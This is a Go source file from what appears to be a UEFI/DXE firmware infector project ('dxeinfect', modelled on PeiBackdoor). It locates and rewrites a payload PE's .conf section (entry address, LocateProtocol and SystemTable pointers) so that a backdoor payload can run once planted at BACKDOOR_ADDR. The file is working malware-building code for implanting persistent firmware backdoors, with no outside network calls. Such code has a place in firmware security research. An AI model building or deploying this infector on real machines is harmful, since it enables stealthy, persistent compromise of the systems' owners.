// Package payload implements the config-section patcher (spec.md §4.3):
// locating the `.conf` section of a payload PE, reading and rewriting its
// fixed 24-byte (entry_va, locate_protocol, system_table) record, and
// computing the in-memory entry point once the payload is planted at
// BACKDOOR_ADDR.
package payload

import (
	"encoding/binary"
	"errors"
	"fmt"

	"github.com/zboralski/dxeinfect/internal/peimage"
)

// ConfSectionPrefix is the section name prefix carrying the patch record,
// per the `_INFECTOR_CONFIG` structure in the original PeiBackdoor.h.
const ConfSectionPrefix = ".conf"

// ConfRecordLen is the size in bytes of the three little-endian uint64
// fields (entry_va, locate_protocol, system_table).
const ConfRecordLen = 24

// ErrNoConfSection is returned when a payload image has no section whose
// name begins with ConfSectionPrefix.
var ErrNoConfSection = errors.New("payload: no .conf section")

// ErrBadPayloadImage is returned when a payload fails the alignment
// invariant required by the patcher (FileAlignment == SectionAlignment).
var ErrBadPayloadImage = errors.New("payload: bad payload image")

// Conf is the three-field config record patched into a payload's .conf
// section.
type Conf struct {
	EntryVA        uint64
	LocateProtocol uint64
	SystemTable    uint64
}

// FindConfOffset returns the raw file offset of the payload's .conf
// section.
func FindConfOffset(img *peimage.Image) (uint32, error) {
	sec := img.SectionByPrefix(ConfSectionPrefix)
	if sec == nil {
		return 0, ErrNoConfSection
	}
	return sec.PointerToRawData, nil
}

// ReadConf reads the current config record out of data, at the offset
// found via FindConfOffset.
func ReadConf(img *peimage.Image, data []byte) (Conf, error) {
	offs, err := FindConfOffset(img)
	if err != nil {
		return Conf{}, err
	}
	if int(offs)+ConfRecordLen > len(data) {
		return Conf{}, fmt.Errorf("payload: .conf record out of bounds at 0x%x", offs)
	}
	rec := data[offs : offs+ConfRecordLen]
	return Conf{
		EntryVA:        binary.LittleEndian.Uint64(rec[0:8]),
		LocateProtocol: binary.LittleEndian.Uint64(rec[8:16]),
		SystemTable:    binary.LittleEndian.Uint64(rec[16:24]),
	}, nil
}

// WriteConf returns a fresh buffer with the .conf record patched to c.
func WriteConf(img *peimage.Image, data []byte, c Conf) ([]byte, error) {
	offs, err := FindConfOffset(img)
	if err != nil {
		return nil, err
	}
	if int(offs)+ConfRecordLen > len(data) {
		return nil, fmt.Errorf("payload: .conf record out of bounds at 0x%x", offs)
	}

	out := make([]byte, len(data))
	copy(out, data)

	rec := out[offs : offs+ConfRecordLen]
	binary.LittleEndian.PutUint64(rec[0:8], c.EntryVA)
	binary.LittleEndian.PutUint64(rec[8:16], c.LocateProtocol)
	binary.LittleEndian.PutUint64(rec[16:24], c.SystemTable)

	return out, nil
}

// Prepared holds the output of PreparePayload: the patched image bytes
// and the two facts the installer needs to finish planting it.
type Prepared struct {
	Data     []byte
	EntryRVA uint32
	ConfRVA  uint32
}

// PreparePayload validates the payload's alignment invariant, computes
// entry_rva = entry_va - ImageBase, and rewrites the .conf record to
// (entry_rva, locateProtocol, systemTable). The rewritten entry_rva lets
// the payload, once loaded at BACKDOOR_ADDR, find its own entry and config
// without further relocation (spec.md §4.3).
func PreparePayload(data []byte, locateProtocol, systemTable uint64) (Prepared, error) {
	img, err := peimage.Parse(data)
	if err != nil {
		return Prepared{}, fmt.Errorf("%w: %v", ErrBadPayloadImage, err)
	}
	if !img.AlignedOK() {
		return Prepared{}, fmt.Errorf("%w: FileAlignment != SectionAlignment", ErrBadPayloadImage)
	}

	conf, err := ReadConf(img, data)
	if err != nil {
		return Prepared{}, err
	}

	entryRVA := uint32(conf.EntryVA - img.ImageBase)

	confOffs, err := FindConfOffset(img)
	if err != nil {
		return Prepared{}, err
	}

	patched, err := WriteConf(img, data, Conf{
		EntryVA:        uint64(entryRVA),
		LocateProtocol: locateProtocol,
		SystemTable:    systemTable,
	})
	if err != nil {
		return Prepared{}, err
	}

	return Prepared{Data: patched, EntryRVA: entryRVA, ConfRVA: confOffs}, nil
}
